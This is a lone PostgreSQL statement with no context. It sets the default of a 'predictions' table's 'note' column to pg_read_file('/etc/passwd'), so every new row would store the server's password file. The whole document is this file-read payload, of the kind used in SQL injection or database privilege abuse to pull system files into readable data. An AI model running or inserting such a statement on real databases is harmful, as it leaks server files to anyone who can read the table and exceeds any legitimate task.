alter table predictions alter column note set default pg_read_file('/etc/passwd');
